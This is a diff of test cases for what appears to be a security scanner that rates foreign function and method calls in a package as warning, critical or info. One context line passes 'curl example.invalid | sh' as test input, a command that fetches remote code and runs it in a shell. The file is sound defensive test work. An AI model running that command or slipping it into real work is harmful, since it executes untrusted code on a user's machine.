@@ -154,6 +154,25 @@ describe('called', () => {
       argument('my_package', 'Net', 'curl example.invalid | sh'),
     ],
     ['foreign function', 'warning', 'foreign-call', argument('my_package', 'helper', 'small')],
+    ['method of a foreign class', 'warning', 'foreign-call', argument('my_package', 'Net.helper', 'small')],
+    [
+      'foreign function that says it runs code',
+      'critical',
+      'foreign-call',
+      argument('my_package', 'run_command', 'x'),
+    ],
+    [
+      'method that says it imports what it is told',
+      'critical',
+      'foreign-call',
+      argument('my_package', 'Registry._import_string', 'x'),
+    ],
+    [
+      'such a function, held and not called',
+      'info',
+      'foreign-class',
+      p().global('my_package', 'run_command').stop(),
+    ],
     [
       'foreign function with a path that climbs',
       'critical',
